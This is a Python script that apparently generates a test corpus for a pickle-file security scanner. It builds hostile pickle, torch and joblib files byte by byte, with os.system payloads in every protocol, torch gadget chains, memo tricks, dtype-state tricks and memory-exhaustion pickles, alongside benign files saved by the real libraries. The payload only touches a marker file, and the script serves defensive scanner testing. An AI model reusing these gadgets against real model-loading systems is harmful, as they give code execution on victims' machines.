#!/usr/bin/env python3
"""Generates the oracle corpus for `airlock scan` (docs/pickle-scanning.md, "The oracle").

crafted/: hostile files built byte by byte (never with pickle.dumps of a live object), one or
more per bypass class of issue #12 and mutations of each (protocols 0/1/2/4/5, memo
indirection, nested gadgets, list arguments, zip and plain containers). Their payload runs
`touch /tmp/airlock-oracle-marker`; tools/oracle/run-oracle.sh loads each one with the real
loader inside a network-less throwaway sandbox and records whether the marker appeared.

benign/: files written by the real libraries (torch.save of state dicts and optimizers,
joblib.dump of arrays and containers, np.save/np.savez of structured dtypes), which must stay
clean. Only written when --benign is given (needs python3-torch, python3-numpy,
python3-joblib).

Usage: gen_corpus.py OUT_DIR [--benign]   (writes OUT_DIR/crafted, OUT_DIR/benign and
OUT_DIR/manifest.json: one entry per file with its loader and class).
"""
import json
import os
import struct
import sys
import zipfile

MARKER = b"/tmp/airlock-oracle-marker"
CMD = b"touch " + MARKER


def le32(n):
    return struct.pack("<I", n)


def sbu(s):  # SHORT_BINUNICODE
    b = s.encode() if isinstance(s, str) else s
    return b"\x8c" + bytes([len(b)]) + b


def binbytes(b):  # BINBYTES
    return b"B" + le32(len(b)) + b


def binunicode(s):  # BINUNICODE
    b = s.encode() if isinstance(s, str) else s
    return b"X" + le32(len(b)) + b


# ---- payloads: os.system(CMD) in every protocol ------------------------------------------------
def payload(proto):
    if proto == 0:
        return b"cos\nsystem\n(S'" + CMD + b"'\ntR."
    if proto == 1:
        return b"cos\nsystem\nq\x00(U" + bytes([len(CMD)]) + CMD + b"tR."
    if proto == 2:
        return b"\x80\x02cos\nsystem\nq\x00" + binunicode(CMD) + b"\x85R."
    return (bytes([0x80, proto]) + sbu("os") + sbu("system") + b"\x93" + sbu(CMD) + b"\x85R.")


LOAD_FROM_BYTES = b"ctorch.storage\n_load_from_bytes\n"
TENSOR = b"ctorch\nTensor\n"


def rebuild_from_type(func, args):
    """torch._tensor._rebuild_from_type_v2(func, torch.Tensor, args, {}): calls func(*args)."""
    return b"ctorch._tensor\n_rebuild_from_type_v2\n(" + func + TENSOR + args + b"}tR"


def torch_zip(data_pkl, records=None):
    """A torch.save zip archive (archive/data.pkl, archive/data/<key>, archive/version)."""
    from io import BytesIO
    buf = BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr("archive/data.pkl", data_pkl)
        for key, data in (records or {}).items():
            z.writestr("archive/data/" + key, data)
        z.writestr("archive/version", b"3\n")
    return buf.getvalue()


def p0_text_literal(b):
    """b as the body of a protocol 0 STRING literal (S'...'), escaped the way repr does."""
    out = b""
    for c in b:
        if c == ord("\n"):
            out += b"\\n"
        elif c == ord("'"):
            out += b"\\'"
        elif c == ord("\\"):
            out += b"\\\\"
        else:
            out += bytes([c])
    return out


# ---- joblib NumpyArrayWrapper with a dtype whose hasobject comes from its state ---------------
def np_dtype(typestr, state=None):
    """numpy.dtype(typestr, False, True) (protocol 4), optionally with a BUILD state."""
    out = sbu("numpy") + sbu("dtype") + b"\x93" + sbu(typestr) + b"\x89\x88\x87R"
    if state is not None:
        out += state + b"b"
    return out


def dtype_state(subarray=b"N", names=b"N", fields=b"N", elsize=-1, flags=0):
    """(3, '|', subarray, names, fields, elsize, alignment, flags) as dtype.__setstate__ takes."""
    return (b"(K\x03" + sbu("|") + subarray + names + fields + b"J" + struct.pack("<i", elsize) +
            b"J" + struct.pack("<i", -1) + b"J" + struct.pack("<i", flags) + b"t")


OBJECT_DTYPE = np_dtype("O8", dtype_state(elsize=-1, flags=63))


def joblib_file(dtype, data):
    """A joblib pickle holding one NumpyArrayWrapper of one element, then `data` (raw array bytes,
    or for object dtypes the nested pickle joblib loads)."""
    wrapper = (sbu("joblib.numpy_pickle") + sbu("NumpyArrayWrapper") + b"\x93)\x81}(" +
               sbu("subclass") + sbu("numpy") + sbu("ndarray") + b"\x93" + sbu("shape") +
               b"K\x01\x85" + sbu("order") + sbu("C") + sbu("dtype") + dtype +
               sbu("allow_mmap") + b"\x88" + sbu("numpy_array_alignment_bytes") + b"N" + b"ub")
    return b"\x80\x04" + wrapper + data + b"."


def crafted():
    """(name, loader, class, bytes) for every hostile file."""
    items = []
    # Class 1: allow-listed callables that call their arguments.
    for proto in (0, 1, 2, 4, 5):
        items.append((f"class1-rebuild-from-type-load-from-bytes-p{proto}.pt", "torch", "1",
                      b"\x80\x02" + rebuild_from_type(LOAD_FROM_BYTES,
                                                      b"(" + binbytes(payload(proto)) + b"t") +
                      b"."))
    items.append(("class1-direct-load-from-bytes-p0.pt", "torch", "1",
                  b"\x80\x02" + LOAD_FROM_BYTES + binbytes(payload(0)) + b"\x85R."))
    items.append(("class1-direct-load-from-bytes-p1.pt", "torch", "1",
                  b"\x80\x02" + LOAD_FROM_BYTES + binbytes(payload(1)) + b"\x85R."))
    # The whole file in protocol 0: the bytes come from _codecs.encode(text, 'latin1').
    items.append(("class1-outer-p0-codecs-latin1.pt", "torch", "1",
                  b"ctorch._tensor\n_rebuild_from_type_v2\n(" + LOAD_FROM_BYTES + TENSOR +
                  b"(c_codecs\nencode\n(S'" + p0_text_literal(payload(0)) +
                  b"'\nS'latin1'\ntRt(dtR."))
    # Memo indirection: the loader is memoized, dropped and fetched back as `func`.
    items.append(("class1-memo-indirection.pt", "torch", "1",
                  b"\x80\x02" + LOAD_FROM_BYTES + b"q\x070" +
                  b"ctorch._tensor\n_rebuild_from_type_v2\n(h\x07" + TENSOR + b"(" +
                  binbytes(payload(0)) + b"t}tR."))
    # Nested: _rebuild_from_type_v2(_rebuild_from_type_v2, Tensor, (_load_from_bytes, ...), {}).
    items.append(("class1-nested-gadget.pt", "torch", "1",
                  b"\x80\x02ctorch._tensor\n_rebuild_from_type_v2\n(ctorch._tensor\n"
                  b"_rebuild_from_type_v2\n" + TENSOR + b"(" + LOAD_FROM_BYTES + TENSOR + b"(" +
                  binbytes(payload(1)) + b"t}t}tR."))
    # A list for args, STACK_GLOBAL names, protocol 4.
    items.append(("class1-list-args-p4.pt", "torch", "1",
                  b"\x80\x04" + sbu("torch._tensor") + sbu("_rebuild_from_type_v2") + b"\x93(" +
                  sbu("torch.storage") + sbu("_load_from_bytes") + b"\x93" + sbu("torch") +
                  sbu("Tensor") + b"\x93]" + binbytes(payload(0)) + b"a}tR."))
    # The gadget as the data of an allow-listed Parameter rebuild, inside a dict (nested containers).
    items.append(("class1-gadget-inside-parameter.pt", "torch", "1",
                  b"\x80\x02}X\x01\x00\x00\x00wctorch._utils\n_rebuild_parameter\n(" +
                  rebuild_from_type(LOAD_FROM_BYTES, b"(" + binbytes(payload(0)) + b"t") +
                  b"\x89ccollections\nOrderedDict\n)RtRs."))
    # A real torch.save zip whose data.pkl is the gadget.
    items.append(("class1-gadget-in-torch-zip.pt", "torch", "1",
                  torch_zip(b"\x80\x02" + rebuild_from_type(LOAD_FROM_BYTES, b"(" +
                                                            binbytes(payload(1)) + b"t") + b".")))
    # A loader outside the allow-list reached through the gadget.
    items.append(("class1-gadget-pickle-loads.pkl", "pickle", "1",
                  b"\x80\x02" + rebuild_from_type(b"cpickle\nloads\n",
                                                  b"(" + binbytes(payload(0)) + b"t") + b"."))
    # new_type other than Tensor: func(*args) runs first, then as_subclass.
    items.append(("class1-rebuild-from-type-parameter-type.pt", "torch", "1",
                  b"\x80\x02ctorch._tensor\n_rebuild_from_type_v2\n(" + LOAD_FROM_BYTES +
                  b"ctorch.nn.parameter\nParameter\n(" + binbytes(payload(0)) + b"t}tR."))
    # The same gadget file opened by numpy.load(allow_pickle=True) (no npy magic: pickle.load).
    items.append(("class1-gadget-via-numpy-load.pkl", "numpy", "1",
                  b"\x80\x02" + rebuild_from_type(LOAD_FROM_BYTES,
                                                  b"(" + binbytes(payload(0)) + b"t") + b"."))
    # Loaders handed to allow-listed functions that do not call them at load time (TypeError or
    # stored): the model says "not vouched for", the oracle shows what really happens.
    items.append(("class1-numpy-reconstruct-loader-as-type.pkl", "pickle", "1",
                  b"\x80\x02cnumpy.core.multiarray\n_reconstruct\n" + LOAD_FROM_BYTES +
                  b"K\x00\x85C\x01b\x87R."))
    items.append(("class1-defaultdict-loader-factory.pkl", "pickle", "1",
                  b"\x80\x02ccollections\ndefaultdict\n" + LOAD_FROM_BYTES + b"\x85R."))
    # Class 2: joblib arrays whose dtype holds objects only through its state or its fields.
    obj_field = b"}" + sbu("a") + b"(" + OBJECT_DTYPE + b"K\x00t" + b"s"
    items.append(("class2-joblib-void-object-field.joblib", "joblib", "2",
                  joblib_file(np_dtype("V8", dtype_state(names=sbu("a") + b"\x85",
                                                         fields=obj_field, elsize=8, flags=0)),
                              payload(4))))
    items.append(("class2-joblib-void-object-field-flag.joblib", "joblib", "2",
                  joblib_file(np_dtype("V8", dtype_state(names=sbu("a") + b"\x85",
                                                         fields=obj_field, elsize=8, flags=1)),
                              payload(4))))
    items.append(("class2-joblib-void-object-flag-only.joblib", "joblib", "2",
                  joblib_file(np_dtype("V8", dtype_state(elsize=8, flags=1)), payload(4))))
    items.append(("class2-joblib-object-subarray.joblib", "joblib", "2",
                  joblib_file(np_dtype("V16", dtype_state(subarray=b"(" + OBJECT_DTYPE +
                                                          b"K\x02\x85t", elsize=16, flags=0)),
                              payload(4))))
    items.append(("class2-joblib-field-list-nested-object.joblib", "joblib", "2",
                  joblib_file(sbu("numpy") + sbu("dtype") + b"\x93](" + sbu("a") + sbu("<i4") +
                              b"\x86" + sbu("b") + b"](" + sbu("c") + sbu("O") + b"\x86e\x86e\x85R",
                              payload(2))))
    items.append(("class2-joblib-object-dtype-p0-payload.joblib", "joblib", "2",
                  joblib_file(OBJECT_DTYPE, payload(0))))
    # Class 3: resource attacks on the C unpickler and on torch's storage records.
    items.append(("class3-long-binput-2to32.pkl", "pickle", "3",
                  b"\x80\x02Nr" + le32(0xFFFFFFF0) + b"0N."))
    items.append(("class3-text-put-2to32.pkl", "pickle", "3", b"Np4294967280\n0N."))
    storage_pkl = (b"\x80\x02ccollections\nOrderedDict\nq\x00)Rq\x01X\x06\x00\x00\x00weight" +
                   b"ctorch._utils\n_rebuild_tensor_v2\n((X\x07\x00\x00\x00storagectorch\n"
                   b"FloatStorage\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpuJ" + le32(1 << 24) +
                   b"tQK\x00J" + le32(1 << 24) + b"\x85K\x01\x85\x89ccollections\nOrderedDict\n"
                   b")RtRs.")
    items.append(("class3-storage-larger-than-record.pt", "torch", "3",
                  torch_zip(storage_pkl, {"0": b"\x01" * 16})))
    return items


def benign(out):
    """Files written by the real libraries; returns (name, loader) pairs."""
    import numpy as np
    import joblib
    import torch
    items = []

    def save(name, loader, fn):
        fn(os.path.join(out, name))
        items.append((name, loader))

    torch.manual_seed(0)
    lin = torch.nn.Linear(4, 2)
    save("torch-linear-state-dict.pt", "torch", lambda p: torch.save(lin.state_dict(), p))
    conv = torch.nn.Sequential(torch.nn.Conv2d(1, 2, 3), torch.nn.BatchNorm2d(2),
                               torch.nn.ReLU(), torch.nn.Flatten(), torch.nn.LazyLinear(3))
    conv(torch.zeros(1, 1, 5, 5))
    save("torch-conv-bn-state-dict.pt", "torch", lambda p: torch.save(conv.state_dict(), p))
    for opt_name in ("SGD", "Adam", "AdamW"):
        model = torch.nn.Linear(3, 1)
        kwargs = {"lr": 0.1}
        if opt_name == "SGD":
            kwargs["momentum"] = 0.9
        opt = getattr(torch.optim, opt_name)(model.parameters(), **kwargs)
        model(torch.ones(2, 3)).sum().backward()
        opt.step()
        save(f"torch-optimizer-{opt_name.lower()}.pt", "torch",
             lambda p, o=opt: torch.save(o.state_dict(), p))
    save("torch-parameters-and-tensors.pt", "torch",
         lambda p: torch.save({"p": torch.nn.Parameter(torch.ones(3)), "t": torch.arange(4),
                               "half": torch.zeros(2, dtype=torch.float16), "step": 7,
                               "names": ["a", "b"]}, p))
    save("torch-legacy-format.pt", "torch",
         lambda p: torch.save(lin.state_dict(), p, _use_new_zipfile_serialization=False))
    save("torch-protocol4.pt", "torch",
         lambda p: torch.save(lin.state_dict(), p, pickle_protocol=4))
    save("joblib-arrays.joblib", "joblib",
         lambda p: joblib.dump({"coef": np.arange(10.0), "ints": np.arange(6).reshape(2, 3),
                                "names": ["a", "b"], "alpha": 0.5}, p))
    save("joblib-structured.joblib", "joblib",
         lambda p: joblib.dump(np.zeros(3, dtype=[("a", "<f8"), ("b", "<i4", (2,))]), p))
    save("joblib-object-array.joblib", "joblib",
         lambda p: joblib.dump(np.array(["x", 1, 2.5], dtype=object), p))
    save("numpy-structured.npy", "numpy",
         lambda p: np.save(p, np.zeros(4, dtype=[("a", "<f8"), ("b", "<i4", (2,)),
                                                 ("c", [("d", "u1")])])))
    save("numpy-savez.npz", "numpy",
         lambda p: np.savez(p, a=np.arange(3), b=np.ones((2, 2), dtype=np.float32)))
    import pickle
    for proto in (2, 4, 5):
        save(f"numpy-pickled-p{proto}.pkl", "pickle",
             lambda p, pr=proto: open(p, "wb").write(pickle.dumps(np.arange(5.0), protocol=pr)))
    return items


def main():
    if len(sys.argv) < 2:
        print(__doc__)
        return 2
    out = sys.argv[1]
    os.makedirs(os.path.join(out, "crafted"), exist_ok=True)
    manifest = []
    for name, loader, cls, data in crafted():
        with open(os.path.join(out, "crafted", name), "wb") as f:
            f.write(data)
        manifest.append({"file": "crafted/" + name, "loader": loader, "class": cls,
                         "kind": "crafted"})
    if "--benign" in sys.argv[2:]:
        os.makedirs(os.path.join(out, "benign"), exist_ok=True)
        for name, loader in benign(os.path.join(out, "benign")):
            manifest.append({"file": "benign/" + name, "loader": loader, "class": "benign",
                             "kind": "benign"})
    with open(os.path.join(out, "manifest.json"), "w") as f:
        json.dump(manifest, f, indent=1)
    print(f"gen_corpus: {len(manifest)} files in {out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
